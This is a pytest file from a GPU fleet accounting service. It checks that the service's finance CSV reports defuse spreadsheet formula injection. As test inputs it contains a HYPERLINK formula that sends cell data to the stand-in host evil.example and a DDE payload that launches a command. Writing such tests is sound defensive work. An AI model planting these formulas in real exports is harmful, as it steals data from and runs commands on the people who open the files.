"""The finance CSV cannot be turned against the spreadsheet that opens it
(OWASP CSV injection: cells starting with = + - @ tab or CR)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import httpx
import psycopg
import pytest

from gpufleet.accounting import CSV_COLUMNS, report_csv
from gpufleet.api.app import create_app as create_api
from gpufleet.auth import create_token
from gpufleet.config import Settings
from gpufleet.csvsafe import FORMULA_STARTS, safe_text
from gpufleet.serverthread import serve
from tests.accounting.builders import constant_power, drain, gpu_samples, node, run, site

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("text", ["=1+2", "+1", "-1+1", "@SUM(A1)", "\tx", "\rx", EVIL])
def test_formula_starts_are_neutralised(text: str) -> None:
    out = safe_text(text)
    assert out == "'" + text and not out.startswith(FORMULA_STARTS)


@pytest.mark.parametrize("text", ["lm-team", "a=b", "team -1", "", "'quoted"])
def test_other_text_is_unchanged(text: str) -> None:
    assert safe_text(text) == text


def test_report_csv_keeps_numbers_numeric_and_neutralises_text() -> None:
    body = {c: None for c in CSV_COLUMNS} | {
        "run_id": "r1",
        "team": EVIL,
        "name": "@cmd",
        "site": "-eu1",
        "gpu_hours": -1.5,
        "gpu_count": -2,
    }
    rows = list(csv.DictReader(io.StringIO(report_csv([body]))))
    assert rows[0]["team"] == "'" + EVIL and rows[0]["name"] == "'@cmd" and rows[0]["site"] == "'-eu1"
    assert rows[0]["gpu_hours"] == "-1.5" and rows[0]["gpu_count"] == "-2"
    for cell in rows[0].values():
        assert not cell.startswith(FORMULA_STARTS) or cell.lstrip("-").replace(".", "").isdigit()


@pytest.fixture
def finance_api(db: str, settings: Settings) -> Iterator[tuple[str, str]]:
    with psycopg.connect(db, autocommit=True) as c:
        token = create_token(c, "finance", "finance")
    with serve(create_api(db, settings)) as srv:
        yield srv.url, token


def test_runs_csv_over_http_neutralises_team_and_name(finance_api: tuple[str, str], db: str) -> None:
    with psycopg.connect(db, autocommit=True) as conn:
        site(conn, "eu1", pue=1.0, price=0.2)
        node(conn, "n1", 8, "eu1")
        run(conn, "r1", 0, 3600, {"n1": [0]}, site_name="eu1", team=EVIL)
        conn.execute("UPDATE runs SET name = %s WHERE run_id = 'r1'", ("\t=cmd|' /C calc'!A0",))
        gpu_samples(conn, constant_power("n1", [0], 300.0, 0, 3600, step_s=20))
        drain(conn)
    url, token = finance_api
    r = httpx.get(
        url + "/v1/reports/runs.csv",
        headers={"Authorization": f"Bearer {token}"},
        timeout=30,
        params={"from": "2026-12-01T09:00:00Z", "to": "2026-12-01T12:00:00Z"},
    )
    assert r.status_code == 200, r.text
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert rows[0]["team"] == "'" + EVIL
    assert rows[0]["name"] == "'\t=cmd|' /C calc'!A0"
    assert all(not v.startswith(("=", "+", "@", "\t", "\r")) for row in rows for v in row.values())
